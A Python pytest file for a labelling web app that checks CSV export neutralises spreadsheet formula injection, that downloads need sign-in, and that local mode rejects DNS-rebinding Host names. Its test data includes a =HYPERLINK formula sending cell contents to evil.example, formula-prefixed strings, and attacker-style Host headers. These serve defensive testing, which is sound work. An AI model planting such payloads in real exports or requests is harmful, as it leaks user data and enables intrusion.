"""CSV cells a spreadsheet would run as formulas, who may download labels, and the Host names served."""

from __future__ import annotations

import csv
import io

import pytest
from conftest import corpus_config

from webapp import create_app
from webapp.corpus import sources, taxonomy
from webapp.interchange import formats, transfer
from webapp.labels import accounts, mirror
from webapp.labels.build import build
from webapp.labels.records import LabelRecord
from webapp.store.db import connect

TAXONOMY = taxonomy.parse({"topics": [{"id": "climate", "name": "Climate policy",
                                       "target": "Carbon taxes are right."}]})
HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for the source")'
# Every start OWASP names (= + - @ tab, carriage return), one already quoted, and harmless ones.
TEXTS = [
    "+1 for the carbon tax, says the minister.",
    "-5 % emissions since the tax came in.",
    "@minister: the tax works.",
    "\tIndented: the tax works.",
    "\rA carriage return first: the tax works.",
    "'=already quoted by hand, the tax works.",
    "''+quoted twice, the tax works.",
    "A plain passage about the tax.",
]
HOLDERS = [HYPERLINK, "+the minister", "-the opposition", "@greens", None, "'=x", "''-y", "the 'quoted' minister"]
METADATA = {"title": "=1+1", "outlet": "@outlet", "date": "2026-01-02", "author": "-an author"}


def corpus_with_formulas(db) -> None:
    """One pre-split document whose passages, holders and metadata start like formulas."""
    taxonomy.sync(db, TAXONOMY)
    sources.store_documents(db, [sources.presplit_document("news.jsonl", TEXTS, METADATA)])
    mirror.store(db, [
        LabelRecord("news.jsonl", pos, "climate", "favour", holder, "alice", "2026-02-03T04:05:06Z", TEXTS[pos])
        for pos, holder in enumerate(HOLDERS)
    ])


def label_set(db) -> list[tuple]:
    """Every current label with its passage text, as comparable tuples."""
    return sorted((r["position"], r["topic"], r["stance"], r["holder"], r["annotator"], r["text"])
                  for r in transfer.label_rows(db))


def test_csv_cells_that_start_like_a_formula_get_a_quote_first(memory_db):
    corpus_with_formulas(memory_db)
    text = formats.export_csv(transfer.label_rows(memory_db), TAXONOMY)
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert [row["text"] for row in rows] == ["'" + t for t in TEXTS[:7]] + [TEXTS[7]]
    assert [row["holder"] for row in rows] == ["'" + h if h and h[0] in "=+-@'" else (h or "") for h in HOLDERS]
    assert rows[0]["holder"] == "'" + HYPERLINK
    assert (rows[0]["title"], rows[0]["outlet"], rows[0]["author"]) == ("'=1+1", "'@outlet", "'-an author")
    # Numbers and dates are left alone.
    assert (rows[0]["position"], rows[0]["date"]) == ("0", "2026-01-02")
    for row in csv.reader(io.StringIO(text, newline="")):
        assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in row), row


def test_our_csv_reads_back_unchanged_quotes_and_all(memory_db):
    corpus_with_formulas(memory_db)
    text = formats.export_csv(transfer.label_rows(memory_db), TAXONOMY)
    fresh = connect(":memory:")
    taxonomy.sync(fresh, TAXONOMY)
    sources.store_documents(fresh, [sources.presplit_document("news.jsonl", TEXTS, METADATA)])
    transfer.import_items(fresh, formats.parse_csv(text, TAXONOMY, "nobody"), "round trip")
    assert label_set(fresh) == label_set(memory_db)
    assert {"'=x", "''-y", HYPERLINK} <= {row[3] for row in label_set(fresh)}
    fresh.close()


def test_the_csv_download_carries_no_live_formula(app, client):
    db = connect(app.config["DATABASE"])
    passage = db.execute("SELECT document, position, text FROM passages WHERE kind = 'content' LIMIT 1").fetchone()
    mirror.store(db, [LabelRecord(passage[0], passage[1], "security", "against", HYPERLINK, "mallory",
                                  "2026-02-03T04:05:06Z", passage[2])])
    db.close()
    body = client.get("/downloads/labels.csv").get_data(as_text=True)
    holders = [row["holder"] for row in csv.DictReader(io.StringIO(body, newline=""))]
    assert "'" + HYPERLINK in holders and HYPERLINK not in holders


def shared_app(corpus, **config):
    """A shared-mode app over the corpus, database built, with annotator alice."""
    app = create_app({**corpus_config(corpus), "SHARED": True, "SECRET_KEY": "test-secret", **config})
    db = connect(app.config["DATABASE"])
    build(db, corpus / "seeds", corpus / "labels")
    accounts.add_annotator(db, "alice", "correct horse battery")
    db.close()
    return app


@pytest.mark.parametrize("url", ["/downloads/labels.csv", "/downloads/labels.prodigy",
                                 "/downloads/labelstudio-config.xml"])
def test_downloads_need_sign_in_when_reads_do(corpus, url):
    closed = shared_app(corpus, READS_REQUIRE_LOGIN=True).test_client()
    refused = closed.get(url)
    assert refused.status_code == 303 and refused.headers["Location"].startswith("/login?next=")
    assert closed.get(url, headers={"HX-Request": "true"}).status_code == 401

    page = closed.get("/login").get_data(as_text=True)
    token = page.split('name="csrf-token" content="')[1].split('"')[0]
    signed_in = closed.post("/login", data={"csrf_token": token, "name": "alice", "password": "correct horse battery"})
    assert signed_in.status_code == 303
    assert closed.get(url).status_code == 200


def test_downloads_are_open_when_reads_are(corpus):
    assert shared_app(corpus).test_client().get("/downloads/labels.csv").status_code == 200
    local = create_app(corpus_config(corpus)).test_client()
    assert local.get("/downloads/labels.csv").status_code == 200


# Host names: local mode answers to loopback names only, so a DNS-rebound page cannot use it.

LOCAL = ["localhost", "localhost:5000", "LocalHost:8080", "127.0.0.1", "127.0.0.1:5000", "[::1]", "[::1]:5000",
         "localhost.:5000"]
FOREIGN = ["rebind.attacker.example", "rebind.attacker.example:5000", "127.0.0.1.nip.io", "localhost.attacker.example",
           "attacker.example@localhost", "localhost:5000@attacker.example", "[::2]:5000", "0.0.0.0:5000", ""]


@pytest.mark.parametrize("host", LOCAL)
def test_local_mode_answers_to_loopback_names_on_any_port(client, host):
    assert client.get("/", headers={"Host": host}).status_code == 200


@pytest.mark.parametrize("host", FOREIGN)
def test_local_mode_refuses_other_host_names_in_plain_words(client, host):
    response = client.get("/", headers={"Host": host})
    assert response.status_code == 400
    assert response.mimetype == "text/plain" and "csrf" not in response.get_data(as_text=True).lower()
    assert "TRUSTED_HOSTS" in response.get_data(as_text=True) and "Set-Cookie" not in response.headers


def test_a_rebound_page_gets_no_token_and_cannot_write(client, db):
    rebound = {"Host": "rebind.attacker.example:5000"}
    assert client.get("/api/session", headers=rebound).status_code == 400
    # Even with a token obtained under a good name, a write addressed to another host is refused.
    token = client.get("/api/session").get_json()["csrf_token"]
    before = db.execute("SELECT count(*) FROM labels").fetchone()[0]
    body = {"labels": [{"topic": "security", "stance": "neutral"}]}
    response = client.put("/api/passages/3/labels", json=body, headers={**rebound, "X-CSRFToken": token})
    assert response.status_code == 400
    assert db.execute("SELECT count(*) FROM labels").fetchone()[0] == before
    assert client.put("/api/passages/3/labels", json=body, headers={"X-CSRFToken": token}).status_code == 200


@pytest.mark.parametrize("setting", [["counterpoint.lan"], "counterpoint.lan", "other.lan, counterpoint.lan:5000",
                                     '["counterpoint.lan"]', [".lan"]])
def test_trusted_hosts_adds_names_in_local_mode(corpus, monkeypatch, setting):
    if setting == '["counterpoint.lan"]':  # an environment variable holding JSON, as Flask reads it
        monkeypatch.setenv("COUNTERPOINT_TRUSTED_HOSTS", setting)
        client = create_app(corpus_config(corpus)).test_client()
    else:
        client = create_app({**corpus_config(corpus), "TRUSTED_HOSTS": setting}).test_client()
    for host in ("counterpoint.lan", "Counterpoint.LAN:5000", "localhost", "127.0.0.1:5000", "[::1]:5000"):
        assert client.get("/api/topics", headers={"Host": host}).status_code == 200, host
    assert client.get("/api/topics", headers={"Host": "counterpoint.lan.attacker.example"}).status_code == 400


def test_shared_mode_answers_to_any_name_until_trusted_hosts_is_set(corpus):
    open_client = shared_app(corpus).test_client()
    assert open_client.get("/", headers={"Host": "counterpoint.example.org"}).status_code == 200
    config = {**corpus_config(corpus), "SHARED": True, "SECRET_KEY": "test-secret"}
    client = create_app({**config, "TRUSTED_HOSTS": ["counterpoint.example.org"]}).test_client()
    assert client.get("/", headers={"Host": "counterpoint.example.org"}).status_code == 200
    refused = client.get("/", headers={"Host": "rebind.attacker.example"})
    assert refused.status_code == 400 and "counterpoint.example.org" in refused.get_data(as_text=True)
    assert client.post("/login", headers={"Host": "rebind.attacker.example"}).status_code == 400


@pytest.mark.parametrize("setting", ["fd00::1", ["http://counterpoint.lan"], [" "], "a.example, b c/d"])
def test_a_trusted_hosts_entry_that_is_no_host_name_stops_the_app_at_start(corpus, setting):
    with pytest.raises(ValueError, match="TRUSTED_HOSTS: .* is not a host name"):
        create_app({**corpus_config(corpus), "TRUSTED_HOSTS": setting})
